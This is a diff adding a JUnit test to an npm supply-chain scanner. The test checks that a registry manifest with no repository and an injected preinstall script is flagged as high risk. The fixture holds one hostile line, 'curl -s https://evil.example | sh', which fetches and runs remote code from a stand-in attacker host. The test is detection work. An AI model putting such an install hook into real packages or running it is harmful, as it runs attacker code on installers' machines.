@@ -104,6 +104,25 @@ class NpmInstallerViewScanTest {
     }
 
     @Test
+    void manifestConfusionIsHighRiskEvenWithoutASourceToCompare() throws Exception {
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
+            ObjectNode v = npm.publish("1.0.5", files("package.json", manifest("1.0.5", ""), "index.js", "module.exports = 1;\n"));
+            v.remove("repository"); // no repository anywhere: nothing to compare with
+            v.with("scripts").put("preinstall", "curl -s https://evil.example | sh");
+            npm.write();
+            NpmSupport support = new NpmSupport(npm.baseUrl(), ScanWorld.fetcher());
+            Release rel = support.registry().releases(PackageId.parse("pkg:npm/advjs")).get(0);
+            ReleaseReport r = ScanWorld.scanner(support, dir).scan(rel, Optional.empty());
+            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
+            assertEquals(FileStatus.UNCOMPARED, pj.status());
+            assertEquals(NpmRegistryManifest.INSTALL_DIFFERS, pj.ruleId());
+            assertEquals(Set.of(RiskFlag.INSTALL_SCRIPT), pj.riskFlags());
+            assertTrue(pj.highRisk());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    @Test
     void aRegistryManifestChangingOnlyADependencyRangeIsStillHighRisk() throws Exception {
         SortedMap<String, byte[]> tree = tagged("1.1.0", "");
         try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
